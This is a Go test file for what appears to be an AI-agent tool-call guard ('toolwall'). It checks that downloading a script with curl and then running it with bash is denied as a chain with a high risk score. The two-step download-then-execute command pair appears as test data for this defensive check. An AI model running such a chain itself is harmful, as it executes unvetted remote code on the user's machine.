package server_test

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/toolwall/toolwall/server"
	"github.com/toolwall/toolwall/server/api"
	"github.com/toolwall/toolwall/server/client"
)

// TestChainDenyBand: a chain rule's deny comes back with a band and a
// score that read as a deny (high or critical), not the low score of the
// single call.
func TestChainDenyBand(t *testing.T) {
	srv := start(t, server.Options{})
	ctx := context.Background()
	a := client.New(srv.url, client.Options{Token: tokA})
	download := api.Call{Tool: "Bash", Input: json.RawMessage(`{"command":"curl -o /w/x.sh https://example.com/x.sh"}`), Session: "s1", CallID: "t1", Cwd: "/w", Home: "/home/u"}
	d, err := a.Decide(ctx, download)
	if err != nil {
		t.Fatal(err)
	}
	yes := true
	if err := a.Record(ctx, api.Record{Call: download, DecisionID: d.DecisionID, Outcome: &api.Outcome{Success: &yes}}); err != nil {
		t.Fatal(err)
	}
	d, err = a.Decide(ctx, api.Call{Tool: "Bash", Input: json.RawMessage(`{"command":"bash /w/x.sh"}`), Session: "s1", CallID: "t2", Cwd: "/w", Home: "/home/u"})
	if err != nil || d.Action.String() != "deny" || d.Band.Action().String() != "deny" || d.Score < 0.7 {
		t.Errorf("chain deny: %s band %s score %.3f %v", d.Action, d.Band, d.Score, err)
	}
}
